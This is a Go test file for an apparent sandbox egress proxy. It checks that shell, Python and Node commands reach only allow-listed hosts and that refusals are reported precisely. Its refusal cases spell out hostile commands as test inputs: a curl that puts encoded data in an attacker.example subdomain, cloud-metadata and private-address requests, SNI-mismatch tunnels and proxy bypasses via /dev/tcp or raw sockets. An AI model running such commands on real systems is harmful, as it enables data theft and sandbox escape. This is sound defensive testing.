package exec

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/toolgate/toolgate/sandbox"
	"github.com/toolgate/toolgate/sandbox/egress"
	"github.com/toolgate/toolgate/sandbox/egress/egresstest"
	"github.com/toolgate/toolgate/tool"
)

// netWorld is a small Internet for commands in the sandbox: a DNS server
// the egress policy asks, and an HTTP and an HTTPS server (a web page, a
// git repository, a Python index, an npm registry, a Go module proxy)
// behind the public-looking address allowed.test resolves to. Names
// resolving to internal addresses are routed to the same servers, so that
// only the policy's checks keep commands from them.
type netWorld struct {
	ws    string
	tools map[string]tool.Tool
	hits  atomic.Int64 // requests the servers answered
}

const (
	worldAddr = "93.184.215.14"
	gitRef    = "0123456789abcdef0123456789abcdef01234567"
)

// internalHosts are allow-listed names that resolve to addresses no command
// may reach.
var internalHosts = map[string]string{
	"private.test": "10.0.0.1", "loopback.test": "127.0.0.1", "metadata.test": "169.254.169.254",
	"loopback6.test": "::1", "ula.test": "fd00::1", "cgnat.test": "100.64.0.1", "linklocal.test": "169.254.10.1",
	"mapped.test": "::ffff:10.0.0.1", "mixed.test": worldAddr + ",192.168.1.1",
}

func newNetWorld(t *testing.T) *netWorld {
	t.Helper()
	w := &netWorld{ws: t.TempDir()}
	dns := egresstest.NewDNSServer(t)
	ca := egresstest.NewCA(t, "allowed.test", "www.allowed.test")
	if err := os.WriteFile(filepath.Join(w.ws, "ca.pem"), ca.PEM, 0o644); err != nil {
		t.Fatal(err)
	}
	mux := w.handler(t)
	plain, secure := w.serve(t, mux, nil), w.serve(t, mux, &ca.Cert)
	routes := egresstest.Routes{}
	allow := []string{"allowed.test", "*.allowed.test", "nxdomain.test", "metadata.google.internal"}
	names := map[string]string{"allowed.test": worldAddr, "www.allowed.test": worldAddr}
	for n, a := range internalHosts {
		names[n] = a
		allow = append(allow, n)
	}
	for name, addrs := range names {
		dns.Set(name, addrs)
		for _, a := range strings.Split(addrs, ",") {
			routes[net.JoinHostPort(a, "80")] = plain
			routes[net.JoinHostPort(a, "443")] = secure
		}
	}
	pol, err := egress.NewPolicy(egress.PolicyConfig{Allow: allow, Deny: []string{"blocked.allowed.test"}, Resolver: dns.Resolver(), Dial: routes.Dial})
	if err != nil {
		t.Fatal(err)
	}
	proxy, err := egress.NewProxy(egress.ProxyConfig{Policy: pol})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { proxy.Close() })
	w.tools = toolMap(t, Options{Root: w.ws, Egress: proxy})
	return w
}

// serve serves h on a loopback port (TLS with cert) and returns its address.
func (w *netWorld) serve(t *testing.T, h http.Handler, cert *tls.Certificate) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	if cert != nil {
		ln = tls.NewListener(ln, &tls.Config{Certificates: []tls.Certificate{*cert}})
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		w.hits.Add(1)
		h.ServeHTTP(rw, r)
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return addr
}

func (w *netWorld) handler(t *testing.T) http.Handler {
	wheel := zipOf(t, map[string]string{
		"demo/__init__.py":             "",
		"demo-1.0.dist-info/METADATA":  "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
		"demo-1.0.dist-info/WHEEL":     "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
		"demo-1.0.dist-info/RECORD":    "",
		"demo-1.0.dist-info/top_level": "demo\n",
	})
	module := zipOf(t, map[string]string{
		"allowed.test/demo@v1.0.0/go.mod":  "module allowed.test/demo\n",
		"allowed.test/demo@v1.0.0/demo.go": "package demo\n",
	})
	scheme := func(r *http.Request) string {
		if r.TLS != nil {
			return "https"
		}
		return "http"
	}
	mux := http.NewServeMux()
	mux.HandleFunc("/hello", func(rw http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(rw, "hello from %s over %s\n", r.Host, scheme(r))
	})
	// git's dumb HTTP protocol: ls-remote reads info/refs.
	mux.HandleFunc("/repo.git/info/refs", func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Content-Type", "text/plain")
		fmt.Fprintf(rw, "%s\trefs/heads/main\n", gitRef)
	})
	mux.HandleFunc("/simple/demo/", func(rw http.ResponseWriter, r *http.Request) {
		fmt.Fprint(rw, `<!DOCTYPE html><html><body><a href="/files/demo-1.0-py3-none-any.whl">demo-1.0-py3-none-any.whl</a></body></html>`)
	})
	mux.HandleFunc("/files/demo-1.0-py3-none-any.whl", func(rw http.ResponseWriter, r *http.Request) { rw.Write(wheel) })
	mux.HandleFunc("/demo", func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(rw, `{"name":"demo","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"demo","version":"1.0.0",`+
			`"dist":{"tarball":"%s://allowed.test/demo-1.0.0.tgz","shasum":"0000000000000000000000000000000000000000"}}}}`, scheme(r))
	})
	mux.HandleFunc("/goproxy/allowed.test/demo/@v/", func(rw http.ResponseWriter, r *http.Request) {
		switch filepath.Base(r.URL.Path) {
		case "list":
			fmt.Fprintln(rw, "v1.0.0")
		case "v1.0.0.info":
			fmt.Fprint(rw, `{"Version":"v1.0.0","Time":"2024-01-01T00:00:00Z"}`)
		case "v1.0.0.mod":
			fmt.Fprint(rw, "module allowed.test/demo\n")
		case "v1.0.0.zip":
			rw.Write(module)
		default:
			http.NotFound(rw, r)
		}
	})
	return mux
}

func zipOf(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for name, content := range files {
		f, err := z.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		f.Write([]byte(content))
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// nodeUsesEnvProxy: Node.js sends fetch through HTTP(S)_PROXY when
// NODE_USE_ENV_PROXY is set from 22.21 and 24 on; before, it ignores them
// (and so reaches nothing from the sandbox).
func nodeUsesEnvProxy(t *testing.T) bool {
	out, err := exec.Command("node", "--version").Output()
	if err != nil {
		t.Skip("node is not installed")
	}
	var major, minor int
	fmt.Sscanf(strings.TrimSpace(string(out)), "v%d.%d", &major, &minor)
	return major >= 24 || major == 22 && minor >= 21
}

// TestNetworkAllowed: the usual clients reach an allowed host through the
// proxy, by HTTP and HTTPS, and only through it.
func TestNetworkAllowed(t *testing.T) {
	w := newNetWorld(t)
	ex := w.tools["execute_command"]
	cases := []struct {
		name, command string
		env           map[string]string
		want          string
	}{
		{"curl http", "curl -sS http://allowed.test/hello", nil, "hello from allowed.test over http"},
		{"curl https", "curl -sS --cacert ca.pem https://allowed.test/hello", nil, "hello from allowed.test over https"},
		{"curl https wildcard", "curl -sS --cacert ca.pem https://www.allowed.test/hello", nil, "hello from www.allowed.test over https"},
		{"curl upper-case name", "curl -sS --cacert ca.pem https://ALLOWED.test./hello", nil, "over https"},
		{"wget http", "wget -qO- http://allowed.test/hello", nil, "hello from allowed.test over http"},
		{"wget https", "wget -qO- --ca-certificate=ca.pem https://allowed.test/hello", nil, "over https"},
		{"python urllib http", `python3 -c "import urllib.request as u; print(u.urlopen('http://allowed.test/hello').read().decode())"`, nil, "over http"},
		{"python urllib https", `python3 -c "import urllib.request as u, ssl; print(u.urlopen('https://allowed.test/hello', context=ssl.create_default_context(cafile='ca.pem')).read().decode())"`, nil, "over https"},
		{"git ls-remote http", "git ls-remote http://allowed.test/repo.git", nil, gitRef + "\trefs/heads/main"},
		{"git ls-remote https", "GIT_SSL_CAINFO=ca.pem git ls-remote https://allowed.test/repo.git", nil, gitRef},
		{"pip download", "pip download --no-deps --disable-pip-version-check --index-url https://allowed.test/simple/ --cert ca.pem -d dl demo==1.0 >&2 && ls dl", nil, "demo-1.0-py3-none-any.whl"},
		{"npm view", "npm view demo version --registry https://allowed.test/ --cafile ca.pem", nil, "1.0.0"},
		{"go mod download", "GOPROXY=https://allowed.test/goproxy GOSUMDB=off GOTOOLCHAIN=local SSL_CERT_FILE=ca.pem go mod download -json allowed.test/demo@v1.0.0", nil, `"Version": "v1.0.0"`},
	}
	if nodeUsesEnvProxy(t) {
		cases = append(cases, struct {
			name, command string
			env           map[string]string
			want          string
		}{"node fetch", `node -e "fetch('http://allowed.test/hello').then(r => r.text()).then(console.log)"`, nil, "over http"})
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := call(t, ex, context.Background(), map[string]any{"command": c.command, "env": c.env, "timeout": 60})
			if r.Error != nil {
				t.Fatalf("error: %s", r.Text())
			}
			out := r.Structured.(Output)
			if out.ExitCode != 0 || !strings.Contains(out.Stdout, c.want) || out.Protections.Network != "proxy" {
				t.Fatalf("exit %d, network %q, stdout %q, want %q\nstderr: %s", out.ExitCode, out.Protections.Network, out.Stdout, c.want, out.Stderr)
			}
		})
	}
}

// TestNetworkEnv: the command's environment names the proxy and exempts
// nothing.
func TestNetworkEnv(t *testing.T) {
	w := newNetWorld(t)
	r := call(t, w.tools["execute_command"], context.Background(), map[string]any{"command": "env"})
	if r.Error != nil {
		t.Fatal(r.Text())
	}
	env := "\n" + r.Structured.(Output).Stdout
	for _, v := range []string{"HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "ALL_PROXY", "all_proxy"} {
		if !strings.Contains(env, "\n"+v+"=http://127.0.0.1:3128\n") {
			t.Errorf("%s is not the proxy:%s", v, env)
		}
	}
	for _, v := range []string{"NO_PROXY=\n", "no_proxy=\n", "NODE_USE_ENV_PROXY=1\n"} {
		if !strings.Contains(env, "\n"+v) {
			t.Errorf("%q missing:%s", v, env)
		}
	}
	d := w.tools["execute_command"].Definition()
	if !strings.Contains(d.Description, "allowed.test, *.allowed.test") || !strings.Contains(d.Description, "HTTPS_PROXY") || !d.Annotations.OpenWorld {
		t.Errorf("the description does not say which hosts are reachable: %s", d.Description)
	}
	off := toolMap(t, Options{Root: t.TempDir()})["execute_command"].Definition()
	if !strings.Contains(off.Description, "the network is off") || off.Annotations.OpenWorld {
		t.Errorf("without a proxy: %s", off.Description)
	}
}

// TestNetworkRefused: every refusal of the proxy, by any client, is a
// permission_denied naming the host, the proxy's reason and the rule; the
// servers see nothing.
func TestNetworkRefused(t *testing.T) {
	w := newNetWorld(t)
	ex, code := w.tools["execute_command"], w.tools["run_code"]
	type tc struct {
		name   string
		tool   tool.Tool
		args   map[string]any
		host   string
		reason egress.Reason
		rule   string
	}
	cases := []tc{
		{"curl http unlisted (exit 0 on the 403)", ex, cmd("curl -sS http://denied.test/"), "denied.test", egress.NotListed, ""},
		{"curl https unlisted", ex, cmd("curl -sS https://denied.test/"), "denied.test", egress.NotListed, ""},
		{"curl look-alike suffix", ex, cmd("curl -sS https://allowed.test.evil.example/"), "allowed.test.evil.example", egress.NotListed, ""},
		{"curl look-alike prefix", ex, cmd("curl -sS https://evilallowed.test/"), "evilallowed.test", egress.NotListed, ""},
		{"curl exfiltration in the name", ex, cmd("curl -sS https://c2VjcmV0.attacker.example/x"), "c2vjcmv0.attacker.example", egress.NotListed, ""},
		{"curl denied by a rule", ex, cmd("curl -sS https://blocked.allowed.test/"), "blocked.allowed.test", egress.Denied, "blocked.allowed.test"},
		{"git denied by a rule", ex, cmd("git ls-remote http://BLOCKED.allowed.test./repo.git"), "blocked.allowed.test", egress.Denied, "blocked.allowed.test"},
		{"curl port", ex, cmd("curl -sS http://allowed.test:8080/"), "allowed.test", egress.PortNotAllowed, ""},
		{"curl https port", ex, cmd("curl -sS --cacert ca.pem https://allowed.test:8443/"), "allowed.test", egress.PortNotAllowed, ""},
		{"curl metadata IP", ex, cmd("curl -sS http://169.254.169.254/latest/meta-data/"), "169.254.169.254", egress.IPLiteral, ""},
		{"curl decimal IP", ex, cmd("curl -sS http://2130706433/"), "127.0.0.1", egress.IPLiteral, ""},
		{"curl public IP", ex, cmd("curl -sS http://" + worldAddr + "/hello"), worldAddr, egress.IPLiteral, ""},
		{"curl metadata name", ex, cmd("curl -sS http://metadata.google.internal/computeMetadata/v1/"), "metadata.google.internal", egress.MetadataAddress, ""},
		{"wget unlisted", ex, cmd("wget -qO- https://denied.test/"), "denied.test", egress.NotListed, ""},
		{"python urllib unlisted", code, py("import urllib.request as u\nu.urlopen('https://denied.test/')"), "denied.test", egress.NotListed, ""},
		{"python urllib plain unlisted", code, py("import urllib.request as u\nu.urlopen('http://denied.test/')"), "denied.test", egress.NotListed, ""},
		{"git ls-remote unlisted", ex, cmd("git ls-remote https://denied.test/repo.git"), "denied.test", egress.NotListed, ""},
		{"git clone unlisted", ex, cmd("git clone -q http://denied.test/repo.git r"), "denied.test", egress.NotListed, ""},
		{"pip unlisted index", ex, cmd("pip download --no-deps --disable-pip-version-check --retries 0 --index-url https://denied.test/simple/ demo"), "denied.test", egress.NotListed, ""},
		{"npm unlisted registry", ex, cmd("npm view demo version --registry https://denied.test/ --fetch-retries 0"), "denied.test", egress.NotListed, ""},
		{"SNI naming another host", code, py(`import socket, ssl
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")
print(s.recv(100))
ssl.create_default_context(cafile="ca.pem").wrap_socket(s, server_hostname="denied.test")`), "allowed.test", egress.SNIMismatch, "allowed.test"},
		{"not TLS in a tunnel", code, py(`import socket
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\n\r\n")
print(s.recv(100))
s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
print(s.recv(100))
raise SystemExit(1)`), "allowed.test", egress.NotTLS, "allowed.test"},
	}
	for name, addr := range internalHosts {
		reason := egress.PrivateAddress
		if addr == "169.254.169.254" {
			reason = egress.MetadataAddress
		}
		cases = append(cases,
			tc{"curl http " + name, ex, cmd("curl -sS http://" + name + "/"), name, reason, name},
			tc{"curl https " + name, ex, cmd("curl -sS https://" + name + "/"), name, reason, name},
			tc{"python " + name, code, py("import urllib.request as u\nu.urlopen('https://" + name + "/')"), name, reason, name})
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			before := w.hits.Load()
			r := call(t, c.tool, context.Background(), c.args)
			e := r.Error
			if e == nil || e.Type != tool.PermissionDenied {
				t.Fatalf("got %+v, want permission_denied\n%s", e, r.Text())
			}
			if e.Details["egress_reason"] != string(c.reason) || e.Details["domain"] != c.host || !strings.Contains(e.Message, c.host) {
				t.Fatalf("details %v, message %q; want %s for %s", e.Details, e.Message, c.reason, c.host)
			}
			if c.rule != "" && (e.Details["rule"] != c.rule || !strings.Contains(e.Message, strconv.Quote(c.rule)) && c.reason != egress.SNIMismatch && c.reason != egress.NotTLS) {
				t.Errorf("the rule %q is not named: %v %q", c.rule, e.Details, e.Message)
			}
			if c.reason == egress.NotListed && !strings.Contains(e.Message, "not on the allow list (allowed: allowed.test, *.allowed.test") {
				t.Errorf("the allow list is not named: %q", e.Message)
			}
			if e.Suggestion == "" || r.Structured.(Output).EgressFailures == nil || !strings.Contains(r.Text(), string(c.reason)) {
				t.Errorf("no suggestion, structured failures or text: %s", r.Text())
			}
			if n := w.hits.Load() - before; n != 0 {
				t.Errorf("the servers answered %d requests", n)
			}
		})
	}
}

func cmd(c string) map[string]any { return map[string]any{"command": c, "timeout": 60} }
func py(c string) map[string]any {
	return map[string]any{"language": "python", "code": c, "timeout": 60}
}

// TestNetworkUnresolved: a name that does not resolve is the network's
// failure (unavailable, retryable), not the sandbox's.
func TestNetworkUnresolved(t *testing.T) {
	w := newNetWorld(t)
	for _, c := range []string{
		"curl -sS http://nxdomain.test/",
		"curl -sS https://nxdomain.test/",
		"git ls-remote https://nxdomain.test/repo.git",
		`python3 -c "import urllib.request as u; u.urlopen('https://nxdomain.test/')"`,
	} {
		t.Run(c, func(t *testing.T) {
			r := call(t, w.tools["execute_command"], context.Background(), cmd(c))
			e := r.Error
			if e == nil || e.Type != tool.Unavailable || !e.Retryable || e.Details["egress_reason"] != string(egress.DNSFailed) ||
				!strings.Contains(e.Message, "nxdomain.test could not be resolved") {
				t.Fatalf("got %+v\n%s", e, r.Text())
			}
		})
	}
}

// TestNetworkNoOtherRoute: whatever a command tries besides the proxy —
// ignoring the proxy variables, its own DNS, a socket to an address, the
// host's loopback — reaches nothing.
func TestNetworkNoOtherRoute(t *testing.T) {
	w := newNetWorld(t)
	cases := []struct {
		name string
		args map[string]any
	}{
		{"curl --noproxy", cmd("curl -sS --max-time 5 --noproxy '*' http://allowed.test/hello")},
		{"curl --noproxy to the address", cmd("curl -sS --max-time 5 --noproxy '*' http://" + worldAddr + "/hello")},
		{"NO_PROXY in the call's env", map[string]any{"command": "curl -sS --max-time 5 http://allowed.test/hello", "env": map[string]string{"NO_PROXY": "*"}}},
		{"NO_PROXY on the command line", cmd("NO_PROXY='*' no_proxy='*' curl -sS --max-time 5 http://allowed.test/hello")},
		{"proxy variables unset", cmd("env -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy curl -sS --max-time 5 http://allowed.test/hello")},
		{"python socket to a public address", py("import socket\nsocket.create_connection(('1.1.1.1', 443), timeout=5)\nprint('hello from')")},
		{"python socket to the world's address", py("import socket\nsocket.create_connection(('" + worldAddr + "', 80), timeout=5)\nprint('hello from')")},
		{"python socket to loopback ports", py("import socket\nfor p in (80, 443, 53, 8080):\n    try:\n        socket.create_connection(('127.0.0.1', p), timeout=2); print('hello from', p)\n    except OSError as e: print(e)\nraise SystemExit(1)")},
		{"python UDP DNS query", py("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(3)\ns.sendto(b'\\x12\\x34' + b'\\x00' * 10, ('8.8.8.8', 53))\nprint('hello from', s.recv(512))")},
		{"python resolver", py("import socket\nprint('hello from', socket.gethostbyname('allowed.test'))")},
		{"bash /dev/tcp", map[string]any{"argv": []string{"bash", "-c", "exec 3<>/dev/tcp/" + worldAddr + "/80 && echo hello from"}}},
		{"node https.get", map[string]any{"language": "node", "code": "require('https').get('https://allowed.test/hello', r => console.log('hello from', r.statusCode)).on('error', e => { console.error(e.message); process.exit(1) })", "timeout": 30}},
	}
	if !nodeUsesEnvProxy(t) {
		cases = append(cases, struct {
			name string
			args map[string]any
		}{"node fetch without proxy support", map[string]any{"language": "node", "code": "fetch('http://allowed.test/hello').then(r => r.text()).then(console.log, e => { console.error(e.cause || e); process.exit(1) })", "timeout": 30}})
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			before := w.hits.Load()
			tl := w.tools["execute_command"]
			if _, ok := c.args["language"]; ok {
				tl = w.tools["run_code"]
			}
			r := call(t, tl, context.Background(), c.args)
			out, _ := r.Structured.(Output)
			if r.Error == nil && out.ExitCode == 0 || strings.Contains(out.Stdout, "hello from") {
				t.Fatalf("reached something: %+v\n%s", r.Error, r.Text())
			}
			if n := w.hits.Load() - before; n != 0 {
				t.Fatalf("the servers answered %d requests", n)
			}
		})
	}
}

// TestEgressError: each kind of failure maps to its error type, and the
// gravest failure of a command is the one named.
func TestEgressError(t *testing.T) {
	allowed := []string{"packages.example", "*.github.com"}
	cases := []struct {
		fs   []EgressFailure
		typ  tool.ErrorType
		host string
		want string
	}{
		{[]EgressFailure{{Host: "evil.example", Port: 443, Reason: "not_listed"}}, tool.PermissionDenied, "evil.example",
			"connection to evil.example refused: not on the allow list (allowed: packages.example, *.github.com)"},
		{[]EgressFailure{{Host: "packages.example", Port: 8080, Reason: "port_not_allowed", Rule: "packages.example", Detail: "the host is allowed on port(s) 80, 443 only"}}, tool.PermissionDenied, "packages.example", "packages.example:8080 refused"},
		{[]EgressFailure{{Host: "bad.github.com", Port: 443, Reason: "denied", Rule: "bad.github.com"}}, tool.PermissionDenied, "bad.github.com", `the policy denies it (rule "bad.github.com")`},
		{[]EgressFailure{{Host: "10.0.0.1", Port: 80, Reason: "ip_literal"}}, tool.PermissionDenied, "10.0.0.1", "an IP address as host"},
		{[]EgressFailure{{Host: "x.github.com", Port: 443, Reason: "private_address", Rule: "*.github.com", Detail: "x.github.com resolves to 10.0.0.1 (a private address)"}},
			tool.PermissionDenied, "x.github.com", `resolves to 10.0.0.1 (a private address) (the name is allowed by "*.github.com"`},
		{[]EgressFailure{{Host: "metadata.google.internal", Port: 80, Reason: "metadata_address"}}, tool.PermissionDenied, "metadata.google.internal", "cloud-metadata"},
		{[]EgressFailure{{Host: "packages.example", Port: 443, Reason: "sni_mismatch", Rule: "packages.example"}}, tool.PermissionDenied, "packages.example", "(sni_mismatch)"},
		{[]EgressFailure{{Host: "packages.example", Port: 443, Reason: "limit_exceeded", Detail: "the connection reached its byte limit"}}, tool.SandboxViolation, "packages.example", "byte limit"},
		{[]EgressFailure{{Host: "nope.packages.example", Port: 443, Reason: "dns_failed", Detail: "no such host"}}, tool.Unavailable, "nope.packages.example", "nope.packages.example could not be resolved"},
		{[]EgressFailure{{Host: "packages.example", Port: 443, Reason: "dial_failed", Detail: "connection refused"}}, tool.Unavailable, "packages.example", "could not connect to packages.example:443"},
		{[]EgressFailure{{Reason: "bad_request", Detail: "unreadable request"}}, tool.PermissionDenied, "", "connection to the proxy refused"},
		// The gravest wins, whatever the order.
		{[]EgressFailure{{Host: "a.test", Reason: "dns_failed"}, {Host: "b.test", Reason: "limit_exceeded"}, {Host: "c.test", Reason: "not_listed"}}, tool.PermissionDenied, "c.test", "c.test"},
		{[]EgressFailure{{Host: "a.test", Reason: "dns_failed"}, {Host: "b.test", Reason: "limit_exceeded"}}, tool.SandboxViolation, "b.test", "b.test"},
	}
	for _, c := range cases {
		e := egressError(c.fs, allowed)
		if e == nil || e.Type != c.typ || e.Details["domain"] != c.host || !strings.Contains(e.Message, c.want) || e.Suggestion == "" {
			t.Errorf("egressError(%+v) = %+v, want %s naming %q with %q", c.fs, e, c.typ, c.host, c.want)
		}
	}
	if e := egressError(nil, allowed); e != nil {
		t.Errorf("no failure: %+v", e)
	}
	var many []string
	for i := range 30 {
		many = append(many, fmt.Sprintf("h%d.test", i))
	}
	if got := allowedWords(many); !strings.HasSuffix(got, "h19.test and 10 more") {
		t.Errorf("allowedWords = %q", got)
	}
}

// TestNetworkFailuresAreTheCommands: commands running at once through one
// proxy each get the refusals of their own connections, no other's.
func TestNetworkFailuresAreTheCommands(t *testing.T) {
	w := newNetWorld(t)
	ex := w.tools["execute_command"]
	const n = 4
	results := make([]tool.Result, 2*n)
	var wg sync.WaitGroup
	for i := range results {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c := "curl -sS http://allowed.test/hello"
			if i%2 == 1 {
				c = fmt.Sprintf("curl -sS http://denied%d.test/", i)
			}
			results[i] = call(t, ex, context.Background(), cmd(c))
		}()
	}
	wg.Wait()
	for i, r := range results {
		out := r.Structured.(Output)
		if i%2 == 0 {
			if r.Error != nil || len(out.EgressFailures) != 0 || !strings.Contains(out.Stdout, "hello from") {
				t.Errorf("allowed command %d: %+v, failures %+v", i, r.Error, out.EgressFailures)
			}
			continue
		}
		want := fmt.Sprintf("denied%d.test", i)
		if r.Error == nil || r.Error.Details["domain"] != want || len(out.EgressFailures) != 1 || out.EgressFailures[0].Host != want {
			t.Errorf("refused command %d: %+v, failures %+v; want only %s", i, r.Error, out.EgressFailures, want)
		}
	}
}

// TestNetworkNeedsNative: a backend without a proxy network (bwrap) is not
// a way around it: the chain refuses, the command does not run with no
// network or the host's.
func TestNetworkNeedsNative(t *testing.T) {
	if _, err := exec.LookPath("bwrap"); err != nil {
		t.Skip("bwrap is not installed")
	}
	proxy, err := egress.NewProxy(egress.ProxyConfig{Policy: mustEgressPolicy(t, "allowed.test")})
	if err != nil {
		t.Fatal(err)
	}
	defer proxy.Close()
	ws := t.TempDir()
	tools := toolMap(t, Options{Root: ws, Egress: proxy, Backend: sandbox.NewChain(&sandbox.Bwrap{})})
	r := call(t, tools["execute_command"], context.Background(), cmd("echo ran > ran.txt"))
	if r.Error == nil || r.Error.Type != tool.Unavailable || !strings.Contains(r.Error.Message, "proxy network") {
		t.Fatalf("got %+v", r.Error)
	}
	if _, err := os.Stat(filepath.Join(ws, "ran.txt")); err == nil {
		t.Fatal("the command ran")
	}
}

func mustEgressPolicy(t *testing.T, allow ...string) *egress.Policy {
	t.Helper()
	p, err := egress.NewPolicy(egress.PolicyConfig{Allow: allow})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// TestProxyIgnoredHint: with a network, a program that ignores the proxy
// and fails to resolve or reach a host by itself gets a hint (not an
// error) that only the proxy leads out; an ordinary failure does not.
func TestProxyIgnoredHint(t *testing.T) {
	w := newNetWorld(t)
	for _, c := range []struct {
		command string
		hint    bool
	}{
		{`python3 -c "import socket; socket.create_connection(('allowed.test', 80))"`, true},
		{`python3 -c "import socket; socket.getaddrinfo('www.allowed.test', 443)"`, true},
		{`node -e "require('dns').lookup('allowed.test', e => { if (e) { console.error(e.message); process.exit(1) } })"`, true},
		{`getent hosts allowed.test || { echo 'could not resolve host: allowed.test' >&2; exit 6; }`, true},
		{`echo 'no such thing' >&2; exit 3`, false},
		{`echo hello`, false},
	} {
		t.Run(c.command, func(t *testing.T) {
			r := call(t, w.tools["execute_command"], context.Background(), cmd(c.command))
			o, ok := r.Structured.(Output)
			if !ok || r.Error != nil {
				t.Fatalf("want a result: %s", r.Text())
			}
			if got := o.Hint != ""; got != c.hint || c.hint && !strings.Contains(r.Text(), "hint: the network is reachable only through the HTTP(S) proxy") {
				t.Fatalf("hint %v, want %v: %s", got, c.hint, r.Text())
			}
		})
	}
}
